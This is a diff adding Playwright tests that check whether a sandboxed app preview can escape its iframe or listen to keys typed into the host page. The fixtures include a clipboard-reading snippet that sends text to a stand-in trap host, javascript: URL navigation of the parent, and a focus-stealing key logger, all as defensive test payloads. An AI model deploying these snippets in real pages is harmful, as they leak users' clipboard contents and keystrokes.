@@ -1,0 +1,99 @@
+"""Apps that try to leave their frame, to take the keyboard, the page or its history."""
+
+from playwright.sync_api import Dialog, Download
+
+from browser.polling import poll
+from browser.tab import Tab
+from browser.test_app_network import served
+from browser.trap import Trap
+from toolbench.mcp.apps.preview import App, preview
+
+LEAVING = """<!doctype html><meta http-equiv="refresh" content="0;url=TRAP/refresh">
+<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["TRAP/speculation"]}],
+ "prerender": [{"source": "list", "urls": ["TRAP/prerender"]}]}</script>
+<a id="ping" ping="TRAP/ping" href="TRAP/link" target="_blank">a</a>
+<a id="named" href="TRAP/named" target="_top">a</a><a id="save" download="x" href="data:text/plain,x">a</a>
+<form id="form" method="post" target="_parent" action="TRAP/post"><input type="image" src="TRAP/button"></form>
+<img attributionsrc="TRAP/attribution"><video poster="TRAP/poster" src="TRAP/video"></video>
+<object data="TRAP/object"></object><embed src="TRAP/embed"><svg><image href="TRAP/svg"/><use href="TRAP/use#x"/></svg>
+<style>@font-face { font-family: t; src: url(TRAP/font) } p { font-family: t; background: image-set(url(TRAP/set) 1x) }</style>
+<p id="state">waiting</p><script>
+const tries = [
+  () => ping.click(), () => named.click(), () => save.click(), () => form.submit(),
+  () => new PaymentRequest([{supportedMethods: "TRAP/pay"}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).show().catch(() => 0),
+  () => navigator.credentials.get({identity: {providers: [{configURL: "TRAP/identity", clientId: "1"}]}}).catch(() => 0),
+  () => new WebTransport("TRAP/transport".replace("http", "https")).ready.catch(() => 0),
+  () => new EventSource("TRAP/events"), () => new SharedWorker("TRAP/shared"),
+  () => new Worker(URL.createObjectURL(new Blob(["fetch('TRAP/worker')"]))),
+  () => navigator.serviceWorker.register("TRAP/service").catch(() => 0),
+  () => document.write("<img src=TRAP/written>"),
+  () => { const f = document.createElement("iframe"); f.srcdoc = "<img src=TRAP/nested>"; document.body.append(f); },
+  () => { const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow.RTCPeerConnection(
+    {iceServers: [{urls: "stun:TRAP".replace("http://", "")}]}).createDataChannel("x"); },
+  () => alert("x"), () => confirm("x"), () => prompt("x"), () => print(),
+  () => document.documentElement.requestFullscreen().catch(() => 0),
+  () => document.documentElement.requestPointerLock?.()?.catch?.(() => 0),
+  () => navigator.mediaDevices.getUserMedia({audio: true}).catch(() => 0),
+  () => navigator.clipboard.readText().then((text) => { new Image().src = "TRAP/clipboard?" + text; }, () => 0),
+  () => history.back(), () => history.go(-2), () => history.pushState({}, "", "#x"), () => history.go(-1),
+  () => window.open("TRAP/open", "_top"), () => window.open("about:blank"), () => window.close(), () => top.close(),
+  () => { location = "javascript:parent.tripwire('x')"; }, () => { parent.location = "javascript:alert(1)"; },
+  () => { location.href = "data:text/html,<img src=TRAP/data>"; },
+  () => { location.href = URL.createObjectURL(new Blob(["<img src=TRAP/blob>"], {type: "text/html"})); },
+  () => { location.replace("TRAP/self"); }, () => { top.frames[0].location = "TRAP/outer"; },
+];
+document.querySelector("#state").textContent = "tried";
+for (const attempt of tries) { try { attempt(); } catch {} }
+</script>"""
+
+LISTENING = """<!doctype html><input id="own" autofocus><p id="state">waiting</p><script>
+let keys = "";
+for (const event of ["keydown", "input", "paste"]) addEventListener(event, (e) => { keys += e.key ?? event; }, true);
+let turns = 0;
+const timer = setInterval(() => {
+  window.focus(); parent.focus(); own.focus(); own.select();
+  document.querySelector("#state").textContent = "turn " + ++turns + " " + keys;
+}, 20);
+</script>"""
+
+PAGE = """<!doctype html><title>Notebook</title><label>Password <input id="password"></label>"""
+
+
+def test_an_app_cannot_leave_its_frame(page: Tab) -> None:
+    """No request, window, dialog, file or step in the history; the page stays where it is."""
+    dialogs: list[Dialog] = []
+    downloads: list[Download] = []
+    with Trap() as trap:
+        app = App("ui://x/app", LEAVING.replace("TRAP", trap.address))
+        with (
+            served("<title>Before</title>") as before,
+            served(PAGE + preview(app)) as address,
+        ):
+            view = page.page
+            view.on("dialog", lambda dialog: (dialogs.append(dialog), dialog.dismiss()))
+            view.on("download", lambda download: downloads.append(download))
+            view.goto(before)
+            view.goto(address)
+            view.wait_for_timeout(3_000)  # what is wrong comes late or never
+            assert view.url == address
+            assert view.title() == "Notebook"
+            assert len(view.context.pages) == 1
+            poll(lambda: trap.caught <= {"nothing"}, until="all is quiet", seconds=20)
+    assert (dialogs, downloads) == ([], [])
+
+
+def test_an_app_does_not_hear_the_keys_of_the_page(page: Tab) -> None:
+    """What a person types beside it goes where the person has clicked."""
+    app = App("ui://x/app", LISTENING)
+    with served(PAGE + preview(app)) as address:
+        view = page.page
+        view.goto(address)
+        inner = view.frame_locator("iframe").frame_locator("iframe")
+        inner.get_by_text("turn").wait_for()
+        view.locator("#password").click()
+        for letter in "hunter2":
+            view.keyboard.press(letter)
+            view.wait_for_timeout(60)
+        assert view.locator("#password").input_value() == "hunter2"
+        state = inner.locator("#state").inner_text()
+        assert not set(state.partition(" ")[2].split(" ", 1)[1:]) & set("hunter")
